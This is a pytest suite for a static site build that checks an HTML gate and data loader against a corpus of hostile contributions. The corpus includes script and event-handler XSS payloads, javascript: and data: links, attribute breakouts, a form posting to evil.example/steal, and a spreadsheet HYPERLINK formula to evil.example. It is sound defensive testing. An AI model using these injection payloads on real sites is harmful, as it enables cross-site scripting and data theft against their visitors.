"""Contributions are untrusted: a corpus of hostile pages and data, each of which must either stop the build with a
clear message or come out inert. Pages go through the real Markdown extensions of mkdocs.yml and the gate
(sitebuild/html/gate.py), in process; a few go through the real build end to end; data goes through the load step.
"""

from __future__ import annotations

import csv
import io
import json

import markdown
import nh3
import pytest
import yaml

from sitebuild import pipeline
from sitebuild.html import csp, gate, links
from sitebuild.open_data import to_csv
from support import ROOT, build, copy_project, load_problems

CONFIG = pipeline.read_config(ROOT)


def rendered(text: str) -> str:
    """A page's Markdown as the builders render it (the site's extension included), inside Material's article."""
    extensions, configs = [], {}
    for item in CONFIG["markdown_extensions"]:
        name, options = (next(iter(item.items())) if isinstance(item, dict) else (item, None))
        extensions.append(name)
        if options:
            configs[name] = options
    html = markdown.Markdown(extensions=extensions, extension_configs=configs).convert(text)
    page = f"<html><head></head><body>{gate.ARTICLE_START}\n{html}\n</article></body></html>"
    return links.resolve(page, "explainer/test/index.html", directory_urls=True)     # the finish step's first act


# Each page stops the build: (Markdown, a fragment of the gate's message).
HOSTILE_PAGES = {
    "script": ("Text.\n\n<script>alert(document.domain)</script>\n", "<script> is not allowed"),
    "line-separator-fence": ("Ordinary paragraph.\u2028~~~\n\n<script>alert(document.domain)</script>\n",
                             "<script> is not allowed"),
    "object": ('<object data="https://evil.example/x.swf"></object>\n', "<object> is not allowed"),
    "embed": ('<embed src="https://evil.example/x.swf">\n', "<embed> is not allowed"),
    "style": ("<style>body{display:none}</style>\n", "<style> is not allowed"),
    "meta-refresh": ('<meta http-equiv="refresh" content="0;url=https://evil.example/">\n', "<meta> is not allowed"),
    "base": ('<base href="https://evil.example/">\n', "<base> is not allowed"),
    "form-action": ('<form action="https://evil.example/steal"><input name="q"></form>\n',
                    "'action' on <form> is not allowed"),
    "link": ('<link rel="stylesheet" href="https://evil.example/x.css">\n', "<link> is not allowed"),
    "foreign-image": ("![x](https://other.example/i.png)\n", "an image from 'https://other.example/i.png'"),
    "protocol-relative-image": ('<img src="//other.example/i.png" alt="x">\n', "an image from"),
    "svg-onload": ("<svg/onload=alert(1)>\n", "an event handler 'onload' on <svg>"),
    "onerror-next-line": ('<img src="x.png"\nonerror="alert(1)" alt="x">\n', "an event handler 'onerror' on <img>"),
    "attr-list-onclick": ("A paragraph.\n{: onclick=\"alert(1)\" }\n", "an event handler 'onclick' on <p>"),
    "entity-javascript": ('<a href="&#106;avascript:alert(1)">x</a>\n', "a link to 'javascript:alert(1)'"),
    "tab-javascript": ('<a href="java\tscript:alert(1)">x</a>\n', "a link to"),
    "markdown-javascript": ("[x](javascript:alert(1))\n", "a link to 'javascript:alert(1)'"),
    "data-link": ("[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)\n", "a link to 'data:"),
    "vbscript": ('<a href="vbscript:msgbox(1)">x</a>\n', "a link to 'vbscript:"),
    "iframe": ('<iframe src="https://www.un.org/"></iframe>\n', "<iframe> is not allowed"),
    "style-attribute": ('<p style="background:url(https://evil.example/t.png)">x</p>\n', "'style' on <p>"),
    "svg-use-foreign": ('<svg><use href="https://evil.example/x.svg#a"/></svg>\n', "<use href="),
    "svg-paint-url": ('<svg><rect fill="url(https://evil.example/x)" width="1" height="1"/></svg>\n', "'fill="),
    "clobber-theme-global": ('<a id="__md_scope">x</a>\n', "ids and names are plain words"),
    "template": ("<template><img src=x onerror=alert(1)></template>\n", "<template> is not allowed"),
    "noscript": ("<noscript><p>x</p></noscript>\n", "<noscript> is not allowed"),
    "math": ("<math><mi>x</mi></math>\n", "<math> is not allowed"),
    "input-image": ('<input type="image" src="x.png">\n', "<input type='image'>"),
    "button-submit": ('<button type="submit">Go</button>\n', "<button type='submit'>"),
    "formaction": ('<button type="button" formaction="https://evil.example">Go</button>\n', "'formaction'"),
    "target-blank": ('<a href="https://www.un.org/" target="_blank">UN</a>\n', "'target' on <a>"),
    "details-ontoggle": ("<details open ontoggle=alert(1)><summary>x</summary></details>\n", "'ontoggle'"),
    "srcdoc": ('<div srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">x</div>\n', "'srcdoc' on <div>"),
    "video": ('<video src="https://evil.example/v.mp4"></video>\n', "<video> is not allowed"),
}


@pytest.mark.parametrize("case", sorted(HOSTILE_PAGES))
def test_a_hostile_page_is_stopped_by_the_gate(case):
    text, expected = HOSTILE_PAGES[case]
    found = gate.check(rendered("# Test\n\n" + text))
    assert any(expected in message for message in found), (case, found)


@pytest.mark.parametrize("case", sorted(HOSTILE_PAGES))
def test_nh3_also_removes_what_the_gate_refuses(case):
    """The same inputs, given to a maintained sanitiser (nh3, ammonia's defaults): it changes each of them too, so
    the gate refuses nothing that a well-kept allow-list would let through."""
    html = gate.article(rendered("# Test\n\n" + HOSTILE_PAGES[case][0]))
    assert nh3.clean(html) != html, case


def test_the_allow_list_is_nh3s_plus_what_the_sites_own_blocks_need():
    extra_text = gate.TEXT - set(nh3.ALLOWED_TAGS)
    assert extra_text <= {"section", "tfoot"}, extra_text          # plain structure nh3 leaves out
    assert not (gate.ELEMENTS & {"script", "style", "iframe", "object", "embed", "base", "meta", "link", "form"}
                - {"form"})
    assert gate.LINK_SCHEMES <= set(nh3.ALLOWED_URL_SCHEMES)


def test_the_whole_site_passes_the_gate_and_a_clean_page_passes():
    assert gate.check(rendered("# Test\n\nA [link](https://www.un.org/) and *emphasis*.[@unsc-res-2085]\n")) == []


def test_a_script_in_the_content_is_never_hashed_into_the_csp():
    page = rendered("# Test\n\nText.\n")
    page = page.replace("<head></head>", "<head><script>var frame = 1;</script></head>")
    injected = page.replace("</article>", "<script>alert(1)</script></article>")
    assert csp.policy_for(injected) == csp.policy_for(page)


@pytest.mark.parametrize("case", ["script", "line-separator-fence", "attr-list-onclick"])
def test_a_hostile_page_fails_the_real_build(case, tmp_path):
    project = copy_project(tmp_path / "project")
    page = project / "docs" / "explainer" / "2012.md"
    page.write_text(page.read_text(encoding="utf-8") + "\n" + HOSTILE_PAGES[case][0], encoding="utf-8")
    result = build(project, tmp_path / "site")
    assert result.returncode != 0, f"the build passed with {case}"
    assert "docs/explainer/2012.md:" in result.stdout and HOSTILE_PAGES[case][1] in result.stdout, result.stdout[-2000:]


def test_a_shortcode_in_a_code_block_is_not_checked(tmp_path):
    page = "# T\n\n```\n<!-- md:no-such-shortcode x=1 -->\n```\n"
    assert load_problems(tmp_path, {"docs/zz.md": page}) == []


def test_shortcodes_and_citations_in_code_are_left_alone():
    html = gate.article(rendered("# T\n\n```\n<!-- md:timeline year=2013 -->\n[@unsc-res-2085]\n```\n\n"
                                 "`[@unsc-res-2085]`\n"))
    assert "md:timeline" in html and html.count("[@unsc-res-2085]") == 2 and 'class="tl' not in html


# ---- Data ------------------------------------------------------------------------------------------------------
def both(text: str) -> dict:
    """A text the same in English and French (a hostile string is hostile in either language)."""
    return {"en": text, "fr": text}


def events_file(**fields) -> str:
    base = {"id": "test-event", "date": "2012-03-22",
            "title": {"en": "A test event", "fr": "Un événement de test"},
            "summary": {"en": "A test summary.", "fr": "Un résumé de test."},
            "category": "political", "place": "bamako", "sources": ["unsc-res-2085"], **fields}
    return yaml.safe_dump([base], allow_unicode=True)


def source_file(**fields) -> str:
    base = {"id": "test-source", "title": "A test source", "author": "Nobody", "date": "2012", "type": "report",
            "primary": False, "language": "en", "url": "https://www.un.org/test", **fields}
    return yaml.safe_dump([base], allow_unicode=True)


HOSTILE_DATA = {
    "url-breaks-out": ("docs/data/sources/zz.yml", source_file(url='https://undocs.org/x"onmouseover="alert(1)'),
                       "field 'url': malformed URL"),
    "url-with-space": ("docs/data/sources/zz.yml", source_file(url="https://www.un.org/a b"), "malformed URL"),
    "javascript-url": ("docs/data/sources/zz.yml", source_file(url="javascript:alert(1)"), "field 'url': expected"),
    "id-trailing-newline": ("docs/data/events/zz.yml", events_file(id="test-event\n"), "field 'id': expected"),
    "date-trailing-newline": ("docs/data/events/zz.yml", events_file(date="2012-03-22\n"), "field 'date': expected"),
    "country-trailing-newline": ("docs/data/places/zz.yml", yaml.safe_dump([{
        "id": "zz-place", "name": "Zz", "country": "ML\n", "kind": "town", "lat": 14.0, "lon": -4.0}]),
        "field 'country': expected"),
    "bidi-override": ("docs/data/events/zz.yml", events_file(title=both("A \u202etxet")), "invisible character U+202E"),
    "zero-width": ("docs/data/events/zz.yml", events_file(summary=both("Ke\u200bita")), "invisible character U+200B"),
    "too-long": ("docs/data/events/zz.yml", events_file(summary={"en": "word " * 1000, "fr": "Un résumé de test."}),
                 "field 'summary.en': expected at most 2,000 characters"),
    "huge-file": ("docs/data/events/zz.yml", "# " + "x" * 1_100_000 + "\n", "larger than 1,000,000 bytes"),
    "duplicate-url-host-case": ("docs/data/sources/zz.yml", source_file(url="https://UNDOCS.org/S/RES/2085(2012)/"),
                                "the same URL is already registered"),
    "duplicate-name-nfc": ("docs/data/actors/zz.yml", yaml.safe_dump([{
        "id": "zz-keita", "name": "Ibrahim Boubacar Kei\u0308ta", "kind": "person", "category": "malian-state",
        "summary": {"en": "A test.", "fr": "Un test."}, "sources": ["unsc-res-2085"]}], allow_unicode=True),
        "is already the name of"),
    "quote-in-actor-name": ("docs/data/actors/zz.yml", yaml.safe_dump([{
        "id": "zz-actor", "name": 'x" http-equiv="refresh', "kind": "group", "category": "rebel",
        "summary": {"en": "A test.", "fr": "Un test."}, "sources": ["unsc-res-2085"]}], allow_unicode=True),
        "field 'name': an actor's name becomes the title"),
    "markup-in-data": ("docs/data/events/zz.yml", events_file(summary=both("<img src=x onerror=alert(1)>")),
                       "'<' and '>' are not allowed"),
    "front-matter-breaks-head": ("docs/zz.md", '---\ntitle: \'x"><script>alert(1)</script>\'\n---\n# x\n',
                                 "'title' is plain text on one line"),
    "front-matter-template": ("docs/zz.md", "---\ntemplate: 404.html\n---\n# x\n", "unknown key 'template'"),
    "front-matter-malformed": ("docs/zz.md", "---\ndescription: a: b\n---\n# x\n", "malformed YAML"),
}


@pytest.mark.parametrize("case", sorted(HOSTILE_DATA))
def test_hostile_data_is_refused_with_a_clear_message(case, tmp_path):
    path, content, expected = HOSTILE_DATA[case]
    problems = load_problems(tmp_path, {path: content})
    assert any(expected in p for p in problems), (case, problems)
    assert all(p.startswith(path) for p in problems if expected in p), problems


def test_an_unquoted_year_is_read_as_the_year(tmp_path):
    text = events_file().replace("date: '2012-03-22'", "date: 2012").replace("date: 2012-03-22", "date: 2012")
    assert "date: 2012\n" in text
    assert load_problems(tmp_path, {"docs/data/events/zz.yml": text}) == []


def test_markdown_and_breaks_in_data_come_out_as_text(tmp_path):
    """An actor's name and summary with Markdown, attribute lists, images and line breaks: the generated page shows
    them as typed, and its front matter stays intact."""
    actor = {"id": "zz-actor", "name": "Evil: template 404.html", "kind": "group", "category": "rebel",
             "aims": both("[x](javascript:alert(1)) {: onmouseover=alert(1) }"),
             "summary": both("![](https://other.example/i.png)\n\n## Injected heading\n\n*[MNLA]: fake"),
             "sources": ["unsc-res-2085"]}
    project = copy_project(tmp_path / "project")
    (project / "docs/data/actors/zz.yml").write_text(yaml.safe_dump([actor], allow_unicode=True), encoding="utf-8")
    result = build(project, tmp_path / "site")
    assert result.returncode == 0, result.stdout[-3000:]
    html = (tmp_path / "site" / "actors" / "zz-actor" / "index.html").read_text(encoding="utf-8")
    content = gate.article(html)
    assert "javascript:" not in content.replace("[x](javascript:alert(1))", "") or 'href="javascript' not in content
    assert 'href="javascript' not in content and "<img" not in content and "Injected heading</h2>" not in content
    assert "onmouseover=" not in content.replace("{: onmouseover=alert(1) }", "")
    assert "[x](javascript:alert(1)) {: onmouseover=alert(1) }" in content
    assert "## Injected heading" in content
    assert "<title>Evil: template 404.html" in html and "md-content" in html     # its own template, not 404.html


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised():
    rows = [{"id": "a", "summary": "=HYPERLINK(\"https://evil.example\")"}, {"id": "b", "summary": "+1"},
            {"id": "c", "summary": "-2"}, {"id": "d", "summary": "@SUM(A1)"}, {"id": "e", "summary": "plain"}]
    cells = [r["summary"] for r in csv.DictReader(io.StringIO(to_csv(rows, ["id", "summary"])))]
    assert cells == ["'=HYPERLINK(\"https://evil.example\")", "'+1", "'-2", "'@SUM(A1)", "plain"]


def test_the_published_json_keeps_the_data_exactly(tmp_path):
    data = json.loads(pipeline.open_data.files(pipeline.load(ROOT))["data/events.json"])
    assert data and all("id" in e for e in data)
